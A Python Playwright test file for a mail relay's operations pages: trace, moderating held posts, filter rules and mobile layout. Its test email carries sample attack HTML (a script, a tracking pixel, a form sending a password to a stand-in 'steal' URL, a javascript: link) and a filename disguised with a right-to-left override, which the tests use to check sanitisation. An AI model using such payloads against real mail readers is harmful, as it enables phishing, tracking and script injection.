"""The operations pages in a real Chromium against a running relay (SQLite and
PostgreSQL): a mail sent over SMTP found in the trace, a held post approved and then
delivered to the sink, a post rejected with a reason its author receives, a filter rule
added and removed, the moderation page on a 375-px screen.

One relay per module; each test makes its own list and looks only at its own members'
copies.  The tests write the screenshots of docs/ui.md into docs/images/.
"""

from __future__ import annotations

import email
import email.policy
import smtplib
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request, expect

from mailflow.services.directory import DirectoryService
from mailflow.testing.browser import DESKTOP, PHONE, login, screenshot
from mailflow.testing.relay import RelayProcess
from mailflow.testing.sink import SmtpSink

IMAGES = Path(__file__).parent.parent / "docs" / "images"
ADMIN, PASSWORD = "admin@example.test", "correct horse battery"
REMOTE = "http://remote.invalid"  # what a held post's HTML must never make the browser fetch


@pytest.fixture(scope="module")
def relay(make_module_relay: Callable[..., RelayProcess]) -> Iterator[RelayProcess]:
    running = make_module_relay(recipient_cache_ttl="0", poll_interval="0.1",
                                moderation_interval="0.2")
    made = running.cli("user", "add", ADMIN, "--admin", "--password-stdin",
                       input=f"{PASSWORD}\n".encode())
    assert made.returncode == 0, made.stderr
    running.start()
    yield running
    running.stop()


@pytest.fixture(scope="module")
def base(relay: RelayProcess) -> str:
    return f"http://127.0.0.1:{relay.http_port}"


def _admin(browser: Browser, base: str, viewport: dict[str, int]
           ) -> Iterator[tuple[BrowserContext, Page]]:
    context = browser.new_context(viewport=viewport)  # type: ignore[arg-type]
    page = context.new_page()
    login(page, base, ADMIN, PASSWORD)
    expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
    yield context, page
    context.close()


@pytest.fixture
def admin(browser: Browser, base: str) -> Iterator[Page]:
    for _, page in _admin(browser, base, DESKTOP):
        yield page


@pytest.fixture
def phone(browser: Browser, base: str) -> Iterator[Page]:
    for _, page in _admin(browser, base, PHONE):
        yield page


def send(relay: RelayProcess, mail_from: str, to: str, content: bytes) -> None:
    with smtplib.SMTP("127.0.0.1", relay.smtp_port, timeout=30) as client:
        assert client.sendmail(mail_from, [to], content) == {}


def members_only(relay: RelayProcess) -> tuple[str, list[str]]:
    """A list whose non-members' posts are held for a moderator."""
    address, members = relay.fresh_list(members=2)
    with relay.repository() as repo:
        DirectoryService(repo).update_list(address, posting="members",
                                           non_member_action="hold")
    return address, members


def hostile_post(to: str, author: str, subject: str) -> bytes:
    """A post whose HTML tries to run a script, track its reader and post a form."""
    message = EmailMessage()
    message["From"] = author
    message["To"] = to
    message["Subject"] = subject
    message.set_content("Hello from outside.\n<b>not bold</b>\n")
    message.add_alternative(
        f'<h2>Hello from outside</h2><p style="color: #0b5cad">A styled line.</p>'
        f'<img src="{REMOTE}/pixel.gif" width="1" height="1" alt="">'
        f'<p style="background: url({REMOTE}/bg.png)">tracked?</p>'
        f'<script>document.title = "pwned"</script>'
        f'<form action="{REMOTE}/steal"><input name="password"></form>'
        f'<a href="javascript:alert(1)">click me</a>', subtype="html",
        cte="quoted-printable")
    message.add_attachment(b"%PDF-1.4 not really\n", maintype="application",
                           subtype="pdf", filename="invoice \u202egpj.exe")
    return message.as_bytes(policy=email.policy.SMTP)


def remote_requests(page: Page) -> list[str]:
    seen: list[str] = []

    def record(request: Request) -> None:
        if request.url.startswith(REMOTE):
            seen.append(request.url)

    page.on("request", record)
    return seen


def open_held_post(page: Page, base: str, address: str, author: str) -> None:
    page.goto(f"{base}/ui/moderation")
    group = page.get_by_role("region", name=f"{address} 1 held")
    expect(group).to_be_visible()
    group.get_by_role("link", name=author).click()
    expect(page.get_by_role("heading", name="Decide")).to_be_visible()


# -- the tests ----------------------------------------------------------------------------

def test_a_mail_sent_over_smtp_is_found_in_the_trace(
        relay: RelayProcess, module_sink: SmtpSink, admin: Page, base: str) -> None:
    address, members = relay.fresh_list(members=2)
    message_id = f"<trace-{address.split('@')[0]}@outside.test>"
    send(relay, "poster@outside.test", address,
         (f"From: poster@outside.test\r\nTo: {address}\r\nSubject: traced\r\n"
          f"Message-ID: {message_id}\r\n\r\nFind me.\r\n").encode())
    module_sink.wait_for_copies(members)
    relay.wait_settled()
    page = admin
    page.get_by_role("link", name="Trace").click()
    page.get_by_label("Queue id, Message-ID or address").fill(message_id)
    page.get_by_role("button", name="Trace").click()
    article = page.get_by_role("article")
    expect(article).to_have_count(1)
    expect(article.get_by_text("Found as")).to_be_visible()
    timeline = article.locator("ol.timeline > li")
    expect(timeline.first).to_contain_text("received")
    expect(article.locator("li", has_text="expanded")).to_contain_text(address)
    for member in members:
        expect(article.locator("li.tone-ok", has_text=member)).to_contain_text("delivered")
        expect(article.get_by_role("row", name=member)).to_contain_text("delivered (final)")
    screenshot(page, IMAGES, "trace")


def test_a_held_post_is_shown_safely_approved_and_delivered(
        relay: RelayProcess, module_sink: SmtpSink, admin: Page, base: str) -> None:
    address, members = members_only(relay)
    author = f"outsider.{address.split('@')[0]}@outside.test"
    send(relay, author, address, hostile_post(address, author, "Please let me in"))
    page = admin
    fetched = remote_requests(page)
    open_held_post(page, base, address, author)
    expect(page.get_by_role("heading", name="Please let me in")).to_be_visible()
    expect(page.locator("pre.held-text")).to_contain_text("<b>not bold</b>")
    expect(page.get_by_role("cell", name="invoice \ufffdgpj.exe")).to_be_visible()
    frame = page.frame_locator("iframe.held-frame")
    expect(frame.get_by_role("heading", name="Hello from outside")).to_be_visible()
    expect(frame.get_by_text("click me")).to_be_visible()
    assert frame.locator("script, form, input, [href^='javascript']").count() == 0
    assert page.title() != "pwned"
    screenshot(page, IMAGES, "held-post")
    assert fetched == []  # neither the page nor its frame fetched anything remote
    page.get_by_role("button", name="Approve", exact=True).click()
    expect(page.get_by_role("status")).to_contain_text(f"Approved the post from {author}")
    copies = module_sink.wait_for_copies(members)
    assert {r for c in copies for r in c.rcpt_tos} >= set(members)
    assert b"Please let me in" in copies[0].content
    expect(page.get_by_role("region", name=f"{address} 1 held")).to_have_count(0)


def test_a_held_post_is_rejected_with_a_reason_mailed_to_its_author(
        relay: RelayProcess, module_sink: SmtpSink, admin: Page, base: str) -> None:
    address, members = members_only(relay)
    author = f"outsider.{address.split('@')[0]}@outside.test"
    send(relay, author, address, hostile_post(address, author, "Buy now"))
    page = admin
    open_held_post(page, base, address, author)
    page.get_by_label("Reason for the author").fill("This list is for members only.")
    page.get_by_role("button", name="Reject").click()
    expect(page.get_by_role("status")).to_contain_text(f"{author} is told why")
    [notice] = module_sink.wait_for_copies([author])
    parsed = email.message_from_bytes(notice.content, policy=email.policy.default)
    assert isinstance(parsed, EmailMessage)
    body = parsed.get_body(preferencelist=("plain",))
    assert body is not None and "This list is for members only." in body.get_content()
    relay.wait_settled()
    assert not set(module_sink.recipients()) & set(members)  # the post went to nobody


def test_a_filter_rule_is_added_and_removed(relay: RelayProcess, admin: Page,
                                            base: str) -> None:
    address, _ = relay.fresh_list(members=1)
    page = admin
    page.get_by_role("link", name="Rules").click()
    page.get_by_role("link", name=address).click()
    expect(page.get_by_role("heading", name=f"Rules of {address}")).to_be_visible()
    form = page.locator("#add-filter")
    form.get_by_label("When").select_option("header")
    form.get_by_label("Header field").fill("Subject")
    form.get_by_label("Matches").fill("(")
    form.get_by_role("button", name="Add rule").click()
    expect(page.locator("#error-filter_value")).to_contain_text("regular expression")
    form = page.locator("#add-filter")
    form.get_by_label("Matches").fill("(?i)cheap pills")
    form.get_by_label("Then").select_option("hold")
    form.get_by_label("Text").fill("looks like spam")
    form.get_by_role("button", name="Add rule").click()
    expect(page.get_by_role("status")).to_contain_text("Added the rule")
    row = page.get_by_role("row", name="header subject matches (?i)cheap pills")
    expect(row).to_contain_text("hold")
    screenshot(page, IMAGES, "rules")
    page.once("dialog", lambda dialog: dialog.accept())
    row.get_by_role("button", name="Remove rule 1").click()
    expect(page.get_by_role("status")).to_contain_text("Removed rule 1")
    expect(page.get_by_role("cell", name="No filter rule.")).to_be_visible()
    with relay.repository() as repo:
        assert DirectoryService(repo).filter_rules(address) == []


def test_the_moderation_page_fits_a_phone(relay: RelayProcess, phone: Page,
                                          base: str) -> None:
    address, _ = members_only(relay)
    author = f"outsider.{address.split('@')[0]}@outside.test"
    send(relay, author, address, hostile_post(address, author, "From my phone"))
    page = phone
    page.goto(f"{base}/ui/moderation")
    expect(page.get_by_role("region", name=f"{address} 1 held")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    screenshot(page, IMAGES, "moderation-phone")
    open_held_post(page, base, address, author)
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    expect(page.get_by_role("button", name="Approve", exact=True)).to_be_visible()


def test_the_queue_page_lists_deliveries_by_state(relay: RelayProcess, admin: Page,
                                                  base: str) -> None:
    relay.wait_settled()
    page = admin
    page.get_by_role("link", name="Queue").click()
    expect(page.get_by_role("heading", name="Queue")).to_be_visible()
    page.get_by_label("State", exact=True).select_option("delivered")
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_role("row").nth(1)).to_contain_text("delivered")
    screenshot(page, IMAGES, "queue")
